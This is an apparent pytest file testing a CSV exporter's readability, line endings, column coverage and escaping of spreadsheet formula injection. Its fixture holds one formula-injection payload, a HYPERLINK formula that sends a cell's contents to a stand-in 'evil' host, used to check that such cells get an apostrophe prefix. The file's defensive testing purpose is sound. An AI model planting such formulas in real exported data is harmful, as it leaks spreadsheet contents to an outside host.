"""CSV: flattened by one rule, harmless in a spreadsheet, read by everybody."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from archivebot.export import Query, export
from archivebot.export.csv_format import FORMULA, csv_columns, text_cell
from archivebot.export.shape import shape
from archivebot.items import Article
from archivebot.ledger import Ledger
from tests.ledgers import fill, make_article

NASTY = '=HYPERLINK("http://evil/?"&A1)'


@pytest.fixture
def path(tmp_path: Path) -> Path:
    """A dataset whose first record is as awkward as can be."""
    ledger = Ledger.open(tmp_path / "ledger.db")
    awkward = make_article(0, headline=NASTY, byline="-1+2", description='a "quoted", line\r\nand another', body=None)
    fill(ledger, [awkward, *(make_article(number) for number in range(1, 12))])
    export(ledger, Query(), str(tmp_path / "x.csv"), archive=tmp_path)
    ledger.close()
    return tmp_path / "x.csv"


def test_python_reads_every_row(path: Path) -> None:
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file, strict=True))

    assert len(rows) == 12
    first = next(row for row in rows if row["id"] == make_article(0).id)
    assert first["headline"] == f"'{NASTY}"
    assert first["byline"] == "'-1+2"
    assert first["description"] == 'a "quoted", line\r\nand another'
    assert first["body"] == ""
    assert first["authors"] == "Ann Lee; Bo Ek"
    assert json.loads(first["authors_json"])[1]["role"] == "photographer"
    assert first["keywords"] == "alpha; key 0"
    assert first["crawl_status"] == "200"
    assert json.loads(first["sources_json"])["body"] == "dom"


def test_duckdb_reads_every_row(path: Path) -> None:
    rows = duckdb.sql(f"SELECT count(*), sum(word_count), count(body), max(crawl_status) FROM '{path}'").fetchall()

    assert rows == [(12, 12 * 10 + 66, 11, 200)]


def test_lines_end_as_the_rfc_says(path: Path) -> None:
    text = path.read_bytes()

    assert text.endswith(b"\r\n")
    assert text.count(b"\r\n") == text.count(b"\n") - text.replace(b"\r\n", b"").count(b"\n")
    assert text.startswith(b'"id","url",')


def test_every_field_has_a_column() -> None:
    names = [name for name, _ in csv_columns(shape(Article))]

    assert len(names) == len(set(names))
    for field in shape(Article):
        assert any(name == field.name or name.startswith(f"{field.name}_") for name in names)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "'="])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    assert text_cell(f"{start}1+1") == f'"\'{start}1+1"'


@pytest.mark.parametrize("text", ["'quoted'", "a=b", " =1", "1-2", "'"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert text_cell(text) == f'"{text}"'


@given(st.text())
def test_any_text_comes_back(text: str) -> None:
    """One apostrophe off where a formula follows apostrophes: the text as it was."""
    (cell,) = next(csv.reader(io.StringIO(text_cell(text) + "\r\n", newline=""), strict=True))

    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (cell[1:] if cell.startswith("'") and FORMULA.match(cell) else cell) == text
